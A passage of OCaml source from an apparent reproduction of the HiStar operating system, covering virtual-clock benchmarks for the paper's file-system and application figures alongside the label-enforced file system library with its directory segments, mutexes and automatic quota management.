          if String.length a >= 2 && String.sub a 0 2 = "--" then None
          else
            match List.assoc_opt a aliases with
            | Some t -> Some t
            | None ->
                if List.exists (fun (n, _, _) -> n = a) experiments then Some a
                else begin
                  Printf.eprintf "unknown experiment: %s\n" a;
                  usage ();
                  exit 1
                end)
        args
      |> List.sort_uniq compare
    in
    let to_run =
      if selected = [] then List.map (fun (n, _, _) -> n) experiments
      else selected
    in
    print_endline
      "HiStar reproduction benchmarks — times are simulated (virtual-clock)";
    print_endline
      "unless marked otherwise; see EXPERIMENTS.md for methodology.";
    List.iter
      (fun name ->
        let _, _, f = List.find (fun (n, _, _) -> n = name) experiments in
        f ())
      to_run;
    if bechamel then Micro.benchmark ()
  end
