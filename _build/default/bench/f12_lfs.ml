(* Figure 12, lower half: the LFS small-file and large-file benchmarks
   on HiStar and the comparison kernels, over identical simulated
   disks. Counts are scaled down from the paper's 10,000 files /
   100 MB; every reported figure is also extrapolated back to the
   paper's size so shapes can be compared directly. *)

open Harness
module Unixsim = Histar_baseline.Unixsim

let files = ref 800
let paper_files = 10_000
let large_mb = ref 24
let paper_large_mb = 100
let rand_writes = ref 400
let paper_rand_writes = 12_800

let scale_small v = v *. (float_of_int paper_files /. float_of_int !files)
let scale_large v = v *. (float_of_int paper_large_mb /. float_of_int !large_mb)

let scale_rand v =
  v *. (float_of_int paper_rand_writes /. float_of_int !rand_writes)

type small_results = {
  create_async : float;
  create_sync : float;
  create_group : float;
  read_cached : float;
  read_uncached : float option;
  unlink_async : float;
  unlink_sync : float;
  unlink_group : float option;
}

let content = String.make 1024 'd'

(* ---------- HiStar ---------- *)

(* One machine per phase-variant so WAL/state does not leak between
   measurements. *)
let histar_create ~mode =
  let m = mk_machine () in
  boot m (fun fs _proc ->
      ignore (Fs.mkdir fs "/lfs");
      let (), ns =
        timed m.clock (fun () ->
            for i = 0 to !files - 1 do
              let p = Printf.sprintf "/lfs/f%05d" i in
              Fs.write_file fs p content;
              match mode with
              | `Async -> ()
              | `Sync -> Fs.fsync fs p
              | `Group -> ()
            done;
            match mode with
            | `Group -> Sys.sync_all ()
            | `Async | `Sync -> ())
      in
      s_of_ns ns)

let histar_read ~cached =
  let m = mk_machine () in
  boot m (fun fs _proc ->
      ignore (Fs.mkdir fs "/lfs");
      let oids = ref [] in
      for i = 0 to !files - 1 do
        let p = Printf.sprintf "/lfs/f%05d" i in
        Fs.write_file fs p content;
        match Fs.lookup fs p with
        | Some n -> oids := n.Fs.oid :: !oids
        | None -> ()
      done;
      if cached then
        let (), ns =
          timed m.clock (fun () ->
              for i = 0 to !files - 1 do
                ignore (Fs.read_file fs (Printf.sprintf "/lfs/f%05d" i))
              done)
        in
        s_of_ns ns
      else begin
        (* uncached: force everything to disk, drop the store's cache,
           then read each object image back from its home location (the
           kernel's in-memory copy plays the role of the page cache, so
           we measure the store's disk path directly) *)
        Sys.sync_all ();
        Store.drop_clean_cache m.store;
        let (), ns =
          timed m.clock (fun () ->
              List.iter
                (fun oid -> ignore (Store.get m.store ~oid))
                (List.rev !oids))
        in
        s_of_ns ns
      end)

let histar_unlink ~mode =
  let m = mk_machine () in
  boot m (fun fs _proc ->
      ignore (Fs.mkdir fs "/lfs");
      for i = 0 to !files - 1 do
        Fs.write_file fs (Printf.sprintf "/lfs/f%05d" i) content
      done;
      Sys.sync_all ();
      let (), ns =
        timed m.clock (fun () ->
            for i = 0 to !files - 1 do
              Fs.unlink fs (Printf.sprintf "/lfs/f%05d" i);
              match mode with
              | `Async -> ()
              | `Sync ->
                  (* §7.1: directory fsync checkpoints the whole system *)
                  Fs.fsync_dir fs "/lfs"
              | `Group -> ()
            done;
            match mode with
            | `Group -> Sys.sync_all ()
            | `Async | `Sync -> ())
      in
      s_of_ns ns)

let histar_small () =
  {
    create_async = histar_create ~mode:`Async;
    create_sync = histar_create ~mode:`Sync;
    create_group = histar_create ~mode:`Group;
    read_cached = histar_read ~cached:true;
    read_uncached = Some (histar_read ~cached:false);
    unlink_async = histar_unlink ~mode:`Async;
    unlink_sync = histar_unlink ~mode:`Sync;
    unlink_group = Some (histar_unlink ~mode:`Group);
  }

(* ---------- baselines ---------- *)

let baseline_small flavor =
  let fresh () =
    let clock = Clock.create () in
    let disk = Disk.create ~clock () in
    (clock, Unixsim.create flavor ~disk ~clock ())
  in
  let create ~sync =
    let clock, u = fresh () in
    let (), ns =
      timed clock (fun () ->
          for i = 0 to !files - 1 do
            let p = Printf.sprintf "/lfs/f%05d" i in
            Unixsim.creat u ~uid:1 ~mode:0o644 p;
            Unixsim.write u ~uid:1 p content;
            if sync then Unixsim.fsync u p
          done)
    in
    s_of_ns ns
  in
  let read ~cached =
    let clock, u = fresh () in
    for i = 0 to !files - 1 do
      let p = Printf.sprintf "/lfs/f%05d" i in
      Unixsim.creat u ~uid:1 ~mode:0o644 p;
      Unixsim.write u ~uid:1 p content
    done;
    Unixsim.sync_all u;
    if not cached then Unixsim.drop_caches u;
    let (), ns =
      timed clock (fun () ->
          for i = 0 to !files - 1 do
            ignore (Unixsim.read u ~uid:1 (Printf.sprintf "/lfs/f%05d" i))
          done)
    in
    s_of_ns ns
  in
  let unlink ~sync =
    let clock, u = fresh () in
    for i = 0 to !files - 1 do
      let p = Printf.sprintf "/lfs/f%05d" i in
      Unixsim.creat u ~uid:1 ~mode:0o644 p;
      Unixsim.write u ~uid:1 p content
    done;
    Unixsim.sync_all u;
    let (), ns =
      timed clock (fun () ->
          for i = 0 to !files - 1 do
            Unixsim.unlink u ~uid:1 (Printf.sprintf "/lfs/f%05d" i);
            if sync then Unixsim.fsync_dir u "/lfs"
          done)
    in
    s_of_ns ns
  in
  let on_disk = flavor = Unixsim.Linux in
  {
    create_async = create ~sync:false;
    create_sync = (if on_disk then create ~sync:true else nan);
    create_group = nan;
    read_cached = read ~cached:true;
    read_uncached = (if on_disk then Some (read ~cached:false) else None);
    unlink_async = unlink ~sync:false;
    unlink_sync = (if on_disk then unlink ~sync:true else nan);
    unlink_group = None;
  }

(* ---------- large file ---------- *)

let chunk = 8192

let histar_large () =
  let m = mk_machine () in
  let bytes = !large_mb * 1024 * 1024 in
  boot m (fun fs proc ->
      ignore (Fs.mkdir fs "/big");
      ignore (Fs.create fs "/big/file");
      Fs.reserve fs "/big/file" (bytes + 65536);
      let data = String.make chunk 'L' in
      (* phase 1: sequential write + one fsync *)
      let fd = Process.open_file proc "/big/file" in
      let (), seq_ns =
        timed m.clock (fun () ->
            for _ = 1 to bytes / chunk do
              ignore (Process.write proc fd data)
            done;
            Fs.fsync fs "/big/file")
      in
      Process.close proc fd;
      Sys.sync_all ();
      (* phase 2: random synchronous writes, flushed in place *)
      let rng = Histar_util.Rng.create 7L in
      let (), rand_ns =
        timed m.clock (fun () ->
            for _ = 1 to !rand_writes do
              let off = Histar_util.Rng.int rng (bytes - chunk) in
              let fd = Process.open_file proc "/big/file" in
              Process.seek proc fd off;
              ignore (Process.write proc fd data);
              Process.close proc fd;
              Fs.fsync_range fs "/big/file" ~off ~len:chunk
            done)
      in
      (* phase 3: uncached sequential read through the store *)
      Sys.sync_all ();
      Store.drop_clean_cache m.store;
      let oid =
        match Fs.lookup fs "/big/file" with
        | Some n -> n.Fs.oid
        | None -> failwith "lost the big file"
      in
      let (), read_ns =
        timed m.clock (fun () -> ignore (Store.get m.store ~oid))
      in
      (s_of_ns seq_ns, s_of_ns rand_ns, s_of_ns read_ns))

let baseline_large flavor =
  let clock = Clock.create () in
  let disk = Disk.create ~clock () in
  let u = Unixsim.create flavor ~disk ~clock () in
  let bytes = !large_mb * 1024 * 1024 in
  Unixsim.creat u ~uid:1 ~mode:0o644 "/big";
  let (), seq_ns =
    timed clock (fun () ->
        (* data accumulates in cache; fsync writes it out once *)
        Unixsim.write u ~uid:1 "/big" (String.make bytes 'L');
        Unixsim.fsync u "/big")
  in
  let (), rand_ns =
    timed clock (fun () ->
        for _ = 1 to !rand_writes do
          Unixsim.sync_write_pages u "/big" ~pages:2
        done)
  in
  Unixsim.drop_caches u;
  let (), read_ns =
    timed clock (fun () -> ignore (Unixsim.read u ~uid:1 "/big"))
  in
  (s_of_ns seq_ns, s_of_ns rand_ns, s_of_ns read_ns)

(* ---------- printing ---------- *)

let p_small name get hi li bi ~paper_note =
  let cell r =
    match get r with
    | None -> na
    | Some v when Float.is_nan v -> na
    | Some v -> Printf.sprintf "%.2f s" (scale_small v)
  in
  row4 name (cell hi) (cell li) (cell bi);
  paper paper_note

let run () =
  header
    (Printf.sprintf
       "Figure 12 (lower): LFS small-file benchmark (%d files, scaled to %d)"
       !files paper_files);
  let hi = histar_small () in
  let li = baseline_small Unixsim.Linux in
  let bi = baseline_small Unixsim.Openbsd in
  row4 "Phase (times scaled to 10k files)" "HiStar" "Linux" "OpenBSD";
  p_small "create, async" (fun r -> Some r.create_async) hi li bi
    ~paper_note:"0.31 s / 0.316 s / 0.22 s";
  p_small "create, per-file sync" (fun r -> Some r.create_sync) hi li bi
    ~paper_note:"459 s / 558 s / —";
  p_small "create, group sync" (fun r -> Some r.create_group) hi li bi
    ~paper_note:"2.57 s / — / —";
  p_small "read, cached" (fun r -> Some r.read_cached) hi li bi
    ~paper_note:"0.16 s / 0.068 s / 0.14 s";
  p_small "read, uncached (no prefetch)" (fun r -> r.read_uncached) hi li bi
    ~paper_note:"86.4 s / 86.6 s / — (no-lookahead row)";
  p_small "unlink, async" (fun r -> Some r.unlink_async) hi li bi
    ~paper_note:"0.090 s / 0.244 s / 0.068 s";
  p_small "unlink, per-file sync" (fun r -> Some r.unlink_sync) hi li bi
    ~paper_note:"456 s / 173 s / —";
  p_small "unlink, group sync" (fun r -> r.unlink_group) hi li bi
    ~paper_note:"0.38 s / — / —";
  header
    (Printf.sprintf
       "Figure 12 (lower): LFS large-file benchmark (%d MB, scaled to 100 MB)"
       !large_mb);
  let h_seq, h_rand, h_read = histar_large () in
  let l_seq, l_rand, l_read = baseline_large Unixsim.Linux in
  row4 "Phase" "HiStar" "Linux" "OpenBSD";
  row4 "sequential write + fsync"
    (fmt_time_s (scale_large h_seq))
    (fmt_time_s (scale_large l_seq))
    na;
  paper "2.14 s / 3.88 s / —";
  row4
    (Printf.sprintf "sync random writes (scaled to %d)" paper_rand_writes)
    (fmt_time_s (scale_rand h_rand))
    (fmt_time_s (scale_rand l_rand))
    na;
  paper "93.0 s / 89.7 s / —";
  row4 "uncached sequential read"
    (fmt_time_s (scale_large h_read))
    (fmt_time_s (scale_large l_read))
    na;
  paper "1.96 s / 1.80 s / —"
