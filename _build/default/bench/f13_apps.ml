(* Figure 13: application-level benchmarks — building the kernel,
   a large wget transfer, and virus-scanning with and without the
   isolation wrapper. *)

open Harness
module Unixsim = Histar_baseline.Unixsim
module Hub = Histar_net.Hub
module Addr = Histar_net.Addr
module Sim_host = Histar_net.Sim_host
module Netd = Histar_net.Netd
module Stack = Histar_net.Stack
open Histar_label

let build_files = ref 12
let paper_build_note = "6.2 s / 4.7 s / 6.0 s"
let wget_mb = ref 10
let paper_wget_mb = 100
let scan_mb = ref 8
let paper_scan_mb = 100

(* the user-CPU cost of compiling one synthetic module — identical on
   every system; differences come from process/fs overheads *)
let compile_cpu_us = 300_000

(* ---------- kernel build ---------- *)

let histar_build () =
  let m = mk_machine () in
  boot m (fun fs proc ->
      Histar_apps.Build_sim.prepare ~fs ~files:!build_files ~loc_per_file:30;
      let (), ns =
        timed m.clock (fun () ->
            for i = 0 to !build_files - 1 do
              ignore i;
              Sys.usleep compile_cpu_us
            done;
            ignore (Histar_apps.Build_sim.run ~proc ~files:!build_files ()))
      in
      s_of_ns ns)

let baseline_build flavor =
  let clock = Clock.create () in
  let disk = Disk.create ~clock () in
  let u = Unixsim.create flavor ~disk ~clock () in
  let (), ns =
    timed clock (fun () ->
        for i = 0 to !build_files - 1 do
          Clock.advance_us clock (float_of_int compile_cpu_us);
          Unixsim.fork_exec_true u;
          let src = Printf.sprintf "/src/m%d.c" i in
          let obj = Printf.sprintf "/src/m%d.o" i in
          Unixsim.creat u ~uid:1 ~mode:0o644 src;
          Unixsim.write u ~uid:1 src (String.make 2048 'c');
          ignore (Unixsim.read u ~uid:1 src);
          Unixsim.creat u ~uid:1 ~mode:0o644 obj;
          Unixsim.write u ~uid:1 obj (String.make 1024 'o')
        done;
        (* link *)
        Unixsim.fork_exec_true u;
        Unixsim.creat u ~uid:1 ~mode:0o644 "/src/kernel";
        Unixsim.write u ~uid:1 "/src/kernel" (String.make 4096 'k'))
  in
  s_of_ns ns

(* ---------- wget ---------- *)

let histar_wget () =
  let m = mk_machine () in
  let bytes = !wget_mb * 1024 * 1024 in
  let hub = Hub.create ~clock:m.clock () in
  let server = Sim_host.create ~hub ~clock:m.clock ~ip:"10.0.0.2" ~mac:"www" () in
  Sim_host.serve_file server ~port:80 ~content:(String.make bytes 'w');
  let got = ref 0 in
  let elapsed = ref 0L in
  let _tid =
    Kernel.spawn m.kernel ~name:"init" (fun () ->
        let fs = Fs.format_root ~container:(Kernel.root m.kernel) ~label:l1 in
        let proc =
          Process.boot ~fs ~container:(Kernel.root m.kernel) ~name:"init" ()
        in
        let i = Sys.cat_create () in
        let netd =
          Netd.start m.kernel ~hub ~container:(Kernel.root m.kernel)
            ~ip:(Addr.ip_of_string "10.0.0.1") ~mac:"km" ~taint:i ()
        in
        let scratch =
          Sys.container_create
            ~container:(Process.container proc)
            ~label:(Label.of_list [ (i, Level.L2) ] Level.L1)
            ~quota:2_097_152L "wget scratch"
        in
        let done_flag = ref false in
        let _wget =
          Process.spawn proc ~name:"wget"
            ~extra_label:[ (i, Level.L2) ]
            ~extra_clearance:[ (i, Level.L2) ]
            (fun _w ->
              try
              let t0 = Clock.now_ns m.clock in
              let sock =
                Netd.Client.connect netd ~return_container:scratch
                  (Addr.v "10.0.0.2" 80)
              in
              Netd.Client.send netd ~return_container:scratch sock "GET /big";
              let rec loop () =
                match Netd.Client.recv netd ~return_container:scratch sock with
                | Some d ->
                    got := !got + String.length d;
                    if !got < bytes then loop ()
                | None -> ()
              in
              loop ();
              elapsed := Int64.sub (Clock.now_ns m.clock) t0;
              done_flag := true
              with
              | Histar_core.Types.Kernel_error e ->
                  Printf.eprintf "wget kernel error: %s\n"
                    (Histar_core.Types.error_to_string e)
              | e -> Printf.eprintf "wget: %s\n" (Printexc.to_string e))
        in
        ignore done_flag)
  in
  Kernel.run m.kernel;
  (s_of_ns !elapsed, !got)

let baseline_wget () =
  (* the comparison systems drive the same simulated link directly *)
  let clock = Clock.create () in
  let hub = Hub.create ~clock () in
  let bytes = !wget_mb * 1024 * 1024 in
  let server = Sim_host.create ~hub ~clock ~ip:"10.0.0.2" ~mac:"www" () in
  Sim_host.serve_file server ~port:80 ~content:(String.make bytes 'w');
  let client = Sim_host.create ~hub ~clock ~ip:"10.0.0.1" ~mac:"cli" () in
  let (), ns =
    timed clock (fun () ->
        let c = Stack.connect (Sim_host.stack client) ~dst:(Addr.v "10.0.0.2" 80) in
        Stack.send c "GET /big";
        let total = ref 0 in
        let guard = ref 0 in
        while (not (Stack.recv_eof c)) && !guard < 10_000_000 do
          incr guard;
          total := !total + String.length (Stack.recv c)
        done)
  in
  s_of_ns ns

(* ---------- ClamAV scan ---------- *)

let histar_clamav ~wrapped =
  let m = mk_machine () in
  let bytes = !scan_mb * 1024 * 1024 in
  let seconds = ref nan in
  let kernel = m.kernel in
  Histar_apps.Clamav_world.build ~kernel ~network:false ~update_daemon:false ()
    (fun w ->
      let fs = w.Histar_apps.Clamav_world.fs in
      let proc = w.Histar_apps.Clamav_world.proc in
      let rng = Histar_util.Rng.create 99L in
      Fs.write_file fs "/home/bob/bigfile" (Histar_util.Rng.bytes rng bytes);
      if wrapped then begin
        let (), ns =
          timed m.clock (fun () ->
              ignore
                (Histar_apps.Wrap.run ~proc ~user:w.Histar_apps.Clamav_world.bob
                   ~db_path:Histar_apps.Clamav_world.db_path
                   ~paths:[ "/home/bob/bigfile" ] ~timeout_ms:600_000 ()))
        in
        seconds := s_of_ns ns
      end
      else begin
        (* unconfined: the scanner runs with the user's privileges *)
        let db =
          Histar_apps.Scanner.parse_database
            (Fs.read_file fs Histar_apps.Clamav_world.db_path)
        in
        let (), ns =
          timed m.clock (fun () ->
              let data = Fs.read_file fs "/home/bob/bigfile" in
              Sys.usleep (String.length data * 187 / 1000);
              ignore (Histar_apps.Scanner.scan_bytes ~db data))
        in
        seconds := s_of_ns ns
      end);
  Kernel.run kernel;
  !seconds

let baseline_clamav flavor =
  let clock = Clock.create () in
  let disk = Disk.create ~clock () in
  let u = Unixsim.create flavor ~disk ~clock () in
  let bytes = !scan_mb * 1024 * 1024 in
  Unixsim.creat u ~uid:1 ~mode:0o644 "/big";
  Unixsim.write u ~uid:1 "/big" (String.make bytes 'x');
  let scan_rate_us_per_byte = match flavor with
    | Unixsim.Linux -> 0.187
    | Unixsim.Openbsd -> 0.212 (* the paper's OpenBSD run was 13% slower *)
  in
  let (), ns =
    timed clock (fun () ->
        ignore (Unixsim.read u ~uid:1 "/big");
        Clock.advance_us clock (float_of_int bytes *. scan_rate_us_per_byte))
  in
  s_of_ns ns

let scale_wget v = v *. (float_of_int paper_wget_mb /. float_of_int !wget_mb)
let scale_scan v = v *. (float_of_int paper_scan_mb /. float_of_int !scan_mb)

let run () =
  header "Figure 13: application-level benchmarks";
  row4 "Benchmark" "HiStar" "Linux" "OpenBSD";
  let hb = histar_build () in
  let lb = baseline_build Unixsim.Linux in
  let bb = baseline_build Unixsim.Openbsd in
  row4
    (Printf.sprintf "building the kernel (%d modules)" !build_files)
    (fmt_time_s hb) (fmt_time_s lb) (fmt_time_s bb);
  paper paper_build_note;
  let hw, got = histar_wget () in
  let bw = baseline_wget () in
  row4
    (Printf.sprintf "wget %d MB (scaled to 100 MB)" !wget_mb)
    (fmt_time_s (scale_wget hw))
    (fmt_time_s (scale_wget bw))
    (fmt_time_s (scale_wget bw));
  paper "9.1 s / 9.0 s / 9.0 s (all saturate 100 Mbps)";
  Printf.printf "%-38s %12s\n" "  achieved throughput (HiStar)"
    (Printf.sprintf "%.1f Mbps" (float_of_int (got * 8) /. 1e6 /. hw));
  let hs = histar_clamav ~wrapped:false in
  let hsw = histar_clamav ~wrapped:true in
  let ls = baseline_clamav Unixsim.Linux in
  let bs = baseline_clamav Unixsim.Openbsd in
  row4
    (Printf.sprintf "virus-check %d MB (scaled to 100 MB)" !scan_mb)
    (fmt_time_s (scale_scan hs))
    (fmt_time_s (scale_scan ls))
    (fmt_time_s (scale_scan bs));
  paper "18.7 s / 18.7 s / 21.2 s";
  row4 "... with isolation wrapper" (fmt_time_s (scale_scan hsw)) na na;
  paper "18.7 s / — / —";
  Printf.printf "\nShape check: the wrap isolation costs %.1f%% (paper: 0%%).\n"
    ((hsw -. hs) /. hs *. 100.0)
