(** The HiStar file system (§5.1): files are segments, directories are
    containers with a {!Dirseg}, permissions are labels enforced by the
    kernel (never by this untrusted library code).

    Quotas are managed automatically as §3.3 suggests: growing a file
    walks the directory chain from the root and moves quota downwards
    as needed, so users never touch quotas except at the top.

    Paths are Unix-like ("/a/b/c"); a mount table maps absolute path
    prefixes onto other containers (per-process, copied across spawn,
    like Plan 9). *)

type t

val make : root:Histar_core.Types.oid -> t
(** Wrap an existing container as the file-system root. The root
    directory gets a directory segment on first use. *)

val format_root :
  container:Histar_core.Types.oid -> label:Histar_label.Label.t -> t
(** Create a fresh "/" directory container inside [container]. *)

val root : t -> Histar_core.Types.oid
val copy : t -> t
(** Independent mount table over the same tree (for spawn). *)

(** {1 Mounts} *)

val mount : t -> path:string -> Histar_core.Types.oid -> unit
val unmount : t -> path:string -> unit

(** {1 Lookup} *)

type node = {
  parent : Histar_core.Types.oid;  (** enclosing directory container *)
  oid : Histar_core.Types.oid;
  is_dir : bool;
}

val lookup : t -> string -> node option
val entry : node -> Histar_core.Types.centry
val exists : t -> string -> bool
val is_dir : t -> string -> bool

(** {1 Directories} *)

val mkdir :
  t -> ?label:Histar_label.Label.t -> ?quota:int64 -> string -> Histar_core.Types.oid

val readdir : t -> string -> Dirseg.entry list

(** {1 Files} *)

val create :
  t -> ?label:Histar_label.Label.t -> ?quota:int64 -> string -> Histar_core.Types.centry
(** Create an empty file; fails if it exists. *)

val write_file : t -> string -> string -> unit
(** Create-or-truncate then write, growing quotas as needed. *)

val append_file : t -> string -> string -> unit
val read_file : t -> string -> string
val file_size : t -> string -> int
val unlink : t -> string -> unit
(** Removes a file or an (empty or not) directory subtree. *)

val rename : t -> src:string -> dst:string -> unit
(** Atomic within one directory; remove+add across directories. *)

val link : t -> src:string -> dst:string -> unit
(** Hard link (fixes the file's quota, as the kernel requires). *)

val fsync : t -> string -> unit
(** Force the file and its directory metadata with a single log
    commit (one barrier). *)

val fsync_data : t -> string -> unit
(** Force only the file contents. *)

val fsync_range : t -> string -> off:int -> len:int -> unit
(** In-place flush of a byte range (the §7.1 random-write fast path). *)

val fsync_dir : t -> string -> unit
(** fsync of a directory: checkpoints the entire system state (§7.1) —
    the expensive path behind the paper's synchronous-unlink numbers. *)

val relabel :
  t -> string -> label:Histar_label.Label.t -> Histar_core.Types.centry
(** The §9 chmod/chown semantics: copy the file segment with the new
    label, swap the directory entry, and unreference the old object
    (revoking existing descriptors). Returns the new entry. *)

val mtime : t -> string -> int64 option
(** Modification time (virtual nanoseconds), from the object metadata.
    [None] if the file was never written through this library. *)

val reserve : t -> string -> int -> unit
(** Ensure the named file can grow to [n] bytes, moving quota down the
    directory chain from the root. *)

val split_path : string -> string list
(** Exposed for tests. *)
