(** Directory segments (§5.1).

    Each directory container holds a special segment mapping file names
    to object IDs. Updates take the directory mutex (a futex word at
    offset 0) and bump a generation number (offset 8); readers that
    cannot write the directory still obtain a consistent view by
    re-reading the generation and busy flag around each parse. The
    directory segment's object ID is recorded in the container's
    64-byte metadata. *)

type entry = { name : string; oid : Histar_core.Types.oid; is_dir : bool }

val create :
  dir:Histar_core.Types.oid -> label:Histar_label.Label.t -> Histar_core.Types.oid
(** Create the directory segment inside container [dir], record its
    oid in the container metadata, and return it. *)

val of_dir : dir_entry:Histar_core.Types.centry -> Histar_core.Types.centry
(** Locate the directory segment of a directory container. *)

val entries : Histar_core.Types.centry -> entry list
(** Consistent lock-free read (generation-checked). *)

val lookup : Histar_core.Types.centry -> string -> entry option

val add : Histar_core.Types.centry -> entry -> unit
(** Takes the directory mutex; fails with [Invalid_argument] if the
    name already exists. *)

val remove : Histar_core.Types.centry -> string -> bool

val rename : Histar_core.Types.centry -> src:string -> dst:string -> bool
(** Atomic rename within one directory, as in §5.1. *)

val generation : Histar_core.Types.centry -> int64
