(** User-level mutex over an 8-byte word in a shared segment, built
    from the kernel's compare-and-swap and futex primitives — the
    paper's "memory-based futex synchronization primitive, on which the
    user-level library implements mutexes" (§4). *)

type t

val at : Histar_core.Types.centry -> off:int -> t
(** A mutex living at byte offset [off] of the given segment. The word
    must be initialized to zero (unlocked). *)

val lock : t -> unit
val unlock : t -> unit
val try_lock : t -> bool
val with_lock : t -> (unit -> 'a) -> 'a
