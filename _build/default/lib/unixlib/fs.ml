module Sys = Histar_core.Sys
module Label = Histar_label.Label
open Histar_core.Types

let default_dir_quota = 131_072L (* overhead + initial dirseg + slack *)
let default_file_quota = 69_632L (* 64 KB data + overhead *)

type t = { fs_root : oid; mounts : (string, oid) Hashtbl.t }

let root t = t.fs_root

let split_path path =
  String.split_on_char '/' path
  |> List.filter (fun s -> String.length s > 0 && not (String.equal s "."))

let norm_path path = "/" ^ String.concat "/" (split_path path)

(* Ensure a container has a directory segment; create lazily with the
   container's own label so kernel permissions stay consistent. *)
let ensure_dirseg dir =
  let ce = self_entry dir in
  let md = Sys.get_metadata ce in
  if String.length md >= 8 then Dirseg.of_dir ~dir_entry:ce
  else
    let label = Sys.obj_label ce in
    centry dir (Dirseg.create ~dir ~label)

let make ~root =
  ignore (ensure_dirseg root);
  { fs_root = root; mounts = Hashtbl.create 8 }

let format_root ~container ~label =
  let root =
    Sys.container_create ~container ~label ~quota:default_dir_quota "/"
  in
  ignore (ensure_dirseg root);
  { fs_root = root; mounts = Hashtbl.create 8 }

let copy t = { fs_root = t.fs_root; mounts = Hashtbl.copy t.mounts }
let mount t ~path oid = Hashtbl.replace t.mounts (norm_path path) oid
let unmount t ~path = Hashtbl.remove t.mounts (norm_path path)

type node = { parent : oid; oid : oid; is_dir : bool }

let entry n = centry n.parent n.oid

(* Walk the path, honouring mounts: after each component, if the
   accumulated absolute path is a mount point, jump to the mounted
   container. Returns the chain of directory containers traversed (for
   quota management) along with the final node. *)
let resolve t path =
  let components = split_path path in
  let mounted prefix = Hashtbl.find_opt t.mounts prefix in
  let start = match mounted "/" with Some o -> o | None -> t.fs_root in
  let rec walk dir chain prefix = function
    | [] -> Some ({ parent = dir; oid = dir; is_dir = true }, List.rev chain)
    | [ last ] -> (
        let prefix' = prefix ^ "/" ^ last in
        match mounted prefix' with
        | Some m ->
            (* a mount overlays the name whether or not it exists; the
               mounted container is named by its self-entry since the
               kernel knows nothing about mounts *)
            Some ({ parent = m; oid = m; is_dir = true }, List.rev chain)
        | None -> (
            let ds = ensure_dirseg dir in
            match Dirseg.lookup ds last with
            | None -> None
            | Some e ->
                Some
                  ( { parent = dir; oid = e.Dirseg.oid; is_dir = e.Dirseg.is_dir },
                    List.rev chain )))
    | comp :: rest -> (
        let prefix' = prefix ^ "/" ^ comp in
        match mounted prefix' with
        | Some m -> walk m ((dir, m) :: chain) prefix' rest
        | None -> (
            let ds = ensure_dirseg dir in
            match Dirseg.lookup ds comp with
            | None -> None
            | Some e ->
                if not e.Dirseg.is_dir then None
                else walk e.Dirseg.oid ((dir, e.Dirseg.oid) :: chain) prefix' rest))
  in
  walk start [] "" components

let lookup t path = Option.map fst (resolve t path)
let exists t path = Option.is_some (lookup t path)

let is_dir t path =
  match lookup t path with Some n -> n.is_dir | None -> false

let parent_of path =
  let comps = split_path path in
  match List.rev comps with
  | [] -> invalid_arg "Fs: path has no parent"
  | name :: rev_parent ->
      let ppath = "/" ^ String.concat "/" (List.rev rev_parent) in
      (ppath, name)

let lookup_dir t path =
  match lookup t path with
  | Some n when n.is_dir -> n
  | Some _ -> invalid_arg (Printf.sprintf "Fs: %s is not a directory" path)
  | None -> invalid_arg (Printf.sprintf "Fs: no such directory: %s" path)

(* ---------- quota management (§3.3 "automatic") ---------- *)

let avail_of ce =
  let q, u = Sys.obj_quota ce in
  if Int64.equal q Int64.max_int then Int64.max_int else Int64.sub q u

(* The chain of (enclosing container, directory) pairs from the very
   top down to the directory named by [dirpath]. The pair for the file
   system root itself is included, so quota ultimately flows from the
   root container (which has quota ∞). *)
let chain_to_dir t dirpath =
  match resolve t dirpath with
  | None -> invalid_arg (Printf.sprintf "Fs: no such directory: %s" dirpath)
  | Some (dnode, chain) ->
      let root_parent = Sys.container_parent (self_entry t.fs_root) in
      let chain = (root_parent, t.fs_root) :: chain in
      let chain =
        if Int64.equal dnode.parent dnode.oid then chain
        else chain @ [ (dnode.parent, dnode.oid) ]
      in
      (dnode.oid, chain)

(* Give every directory along the path at least [need] spare bytes,
   top-down. Competing processes may consume headroom between passes,
   so run passes until a full sweep succeeds (the root container's
   quota is infinite, so this converges unless a label forbids the
   move). *)
let ensure_headroom t dirpath need =
  if Int64.compare need 0L > 0 then begin
    let _dir, chain = chain_to_dir t dirpath in
    let sweep () =
      List.for_all
        (fun (parent, child) ->
          if Int64.equal parent child then true
          else
            let avail = avail_of (self_entry child) in
            if Int64.compare avail need >= 0 then true
            else
              match
                Sys.quota_move ~container:parent ~target:child
                  ~nbytes:(Int64.sub need avail)
              with
              | () -> true
              | exception Kernel_error (Quota _) -> false)
        chain
    in
    let rec loop n =
      if n = 0 then
        raise
          (Kernel_error (Quota "Fs.ensure_headroom: could not reserve quota"))
      else if not (sweep ()) then loop (n - 1)
    in
    loop 32
  end

(* Move [need] extra quota onto [target], which is linked in the
   directory named by [dirpath]. *)
let reserve_into t ~dirpath ~target need =
  if Int64.compare need 0L > 0 then begin
    let dir, _ = chain_to_dir t dirpath in
    let rec attempt n =
      ensure_headroom t dirpath need;
      match Sys.quota_move ~container:dir ~target ~nbytes:need with
      | () -> ()
      | exception Kernel_error (Quota _) when n > 0 -> attempt (n - 1)
    in
    attempt 8
  end

(* Make sure the directory segment of [dirpath] can absorb another
   [bytes]-byte entry. *)
let grow_dirseg t dirpath bytes =
  let dir, _ = chain_to_dir t dirpath in
  let ds = ensure_dirseg dir in
  let avail = avail_of ds in
  let slack = Int64.of_int (bytes + 128) in
  if Int64.compare avail slack < 0 then
    reserve_into t ~dirpath ~target:ds.object_id
      (Int64.of_int (max (bytes + 128) 8192))

let reserve t path n =
  match resolve t path with
  | None -> invalid_arg (Printf.sprintf "Fs.reserve: no such file: %s" path)
  | Some (node, _chain) ->
      let avail = avail_of (entry node) in
      let need = Int64.sub (Int64.of_int n) avail in
      if Int64.compare need 0L > 0 then
        let dirpath, _ = parent_of path in
        reserve_into t ~dirpath ~target:node.oid need

(* Competing processes can consume headroom between our reservation
   and the operation that needed it; re-reserve and retry. *)
let with_quota_retry t ppath need f =
  let rec go attempts =
    match f () with
    | v -> v
    | exception Kernel_error (Quota _) when attempts > 0 ->
        ensure_headroom t ppath need;
        go (attempts - 1)
  in
  ensure_headroom t ppath need;
  go 8

(* ---------- directories ---------- *)

let mkdir t ?label ?(quota = default_dir_quota) path =
  let ppath, name = parent_of path in
  let pdir = lookup_dir t ppath in
  let label =
    match label with Some l -> l | None -> Sys.obj_label (entry pdir)
  in
  let dir =
    with_quota_retry t ppath quota (fun () ->
        Sys.container_create ~container:pdir.oid ~label ~quota name)
  in
  ignore (ensure_dirseg dir);
  grow_dirseg t ppath (String.length name + 16);
